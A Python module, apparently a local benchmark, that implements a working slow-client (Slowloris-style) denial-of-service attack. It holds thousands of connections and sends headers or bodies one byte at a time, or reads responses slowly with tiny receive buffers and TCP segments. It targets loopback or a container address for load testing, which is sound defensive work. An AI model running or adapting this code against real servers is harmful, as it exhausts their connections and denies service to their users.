"""Slow clients by the thousand: each holds a connection and sends its header, sends its body, or reads its answer, one
byte at a time. On this machine only; `python -m bench.attack_connections header 8080 10000 15`.
"""

from __future__ import annotations

import argparse
import heapq
import os
import resource
import select
import socket
import time
from collections import Counter
from dataclasses import dataclass

LOOPBACK = "127.0.0.1"
# new connections a second. Each reader is a request for a large answer: more of them is not a slow attack but load
RATES = {"header": 2000, "body": 2000, "read": 200}
HEADER = b"GET /item HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
BODY = b"PUT /item HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
READ = b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n"
# what arrives at once of an answer: the rest stays with the server until the client reads
RECEIVE_BUFFER = 2048
# small packets keep the server's kernel from taking the whole answer off its hands (RFC 9293 §3.7.1)
SEGMENT = 536


@dataclass
class Result:
    """What became of the connections."""

    opened: int
    at_most: int
    closed_by_server: int
    refused: int
    statuses: dict[str, int]


class Attack:
    """`count` connections, opened `rate` a second, each doing one byte every `interval` seconds; what the server closes
    is opened again.
    """

    def __init__(self, mode: str, address: tuple[str, int], count: int, interval: float, rate: int, path: str) -> None:
        self.mode, self.address, self.count, self.interval, self.rate = mode, address, count, interval, rate
        self.begin = {"header": HEADER, "body": BODY, "read": READ % path.encode()}[mode]
        self.poll = select.epoll()
        self.open: dict[int, socket.socket] = {}
        self.due: list[tuple[float, int, int]] = []
        self.counts: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.answered: set[int] = set()

    def run(self, seconds: float) -> Result:
        """Hold the attack for this long, counted from the first connection."""
        begin = time.monotonic()
        at_most = 0
        while (now := time.monotonic()) < begin + seconds:
            # also those that are opened again come at this rate
            allowed = int((now - begin) * self.rate) + 1 - self.counts["opened"]
            for _ in range(min(200, allowed, self.count - len(self.open))):
                self._connect()
            at_most = max(at_most, len(self.open))
            for descriptor, event in self.poll.poll(0.01, 1000):
                self._ready(descriptor, event)
            self._step(time.monotonic())
        for descriptor in list(self.open):
            self._close(descriptor)
        counts = self.counts
        return Result(counts["opened"], at_most, counts["closed"], counts["refused"], dict(self.statuses))

    def _connect(self) -> None:
        connection = socket.socket()
        connection.setblocking(False)
        if self.mode == "read":
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER)
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, SEGMENT)
        if self.address[0] == LOOPBACK:
            # a few addresses, so that ports do not run out
            connection.bind((f"127.0.1.{self.counts['opened'] % 8 + 1}", 0))
        self.counts["opened"] += 1
        connection.connect_ex(self.address)
        self.open[connection.fileno()] = connection
        self.poll.register(connection, select.EPOLLOUT)

    def _ready(self, descriptor: int, event: int) -> None:
        connection = self.open[descriptor]
        try:
            if event & select.EPOLLOUT:
                connection.send(self.begin)
                # a reader looks at its connection only when its byte is due
                self.poll.modify(descriptor, 0 if self.mode == "read" else select.EPOLLIN)
                self._schedule(descriptor)
            elif event & select.EPOLLIN and self.mode != "read":
                self._read(descriptor, 65536)
            else:
                self._lost(descriptor, "closed")
        except OSError:
            self._lost(descriptor, "refused" if event & select.EPOLLOUT else "closed")

    def _schedule(self, descriptor: int) -> None:
        when = time.monotonic() + self.interval
        heapq.heappush(self.due, (when, descriptor, id(self.open[descriptor])))

    def _step(self, now: float) -> None:
        for _ in range(500):
            if not self.due or self.due[0][0] > now:
                return
            _, descriptor, identity = heapq.heappop(self.due)
            connection = self.open.get(descriptor)
            if connection is None or id(connection) != identity:
                continue
            try:
                if self.mode == "read":
                    self._read(descriptor, 1 if descriptor in self.answered else 13)
                else:
                    connection.send(b"x")
                if descriptor in self.open:
                    self._schedule(descriptor)
            except BlockingIOError:
                self._schedule(descriptor)
            except OSError:
                self._lost(descriptor, "closed")

    def _read(self, descriptor: int, size: int) -> None:
        data = self.open[descriptor].recv(size)
        if not data:
            self._lost(descriptor, "closed")
        elif descriptor not in self.answered:
            self.answered.add(descriptor)
            self.statuses[data[9:12].decode("latin-1")] += 1

    def _lost(self, descriptor: int, why: str) -> None:
        self.counts[why] += 1
        self._close(descriptor)

    def _close(self, descriptor: int) -> None:
        self.answered.discard(descriptor)
        self.open.pop(descriptor).close()


def allow_files(count: int) -> None:
    """Let this process open `count` files and some more."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    if hard != resource.RLIM_INFINITY and hard < count + 100:
        raise SystemExit(f"{count} connections need `ulimit -Hn` of {count + 100}; it is {hard}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("mode", choices=tuple(RATES))
    parser.add_argument("port", type=int)
    parser.add_argument("count", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--host", default=LOOPBACK, help="a container's address")
    parser.add_argument("--interval", type=float, default=3, help="seconds between two bytes")
    parser.add_argument("--rate", type=int, help=f"new connections a second ({RATES})")
    parser.add_argument("--path", default="/item?limit=100", help="what readers ask for")
    options = parser.parse_args()
    allow_files(options.count)
    # an attacker has machines of its own; this one is shared with the service
    os.nice(10)
    address, rate = (options.host, options.port), options.rate or RATES[options.mode]
    attack = Attack(options.mode, address, options.count, options.interval, rate, options.path)
    print(attack.run(options.seconds))


if __name__ == "__main__":
    main()
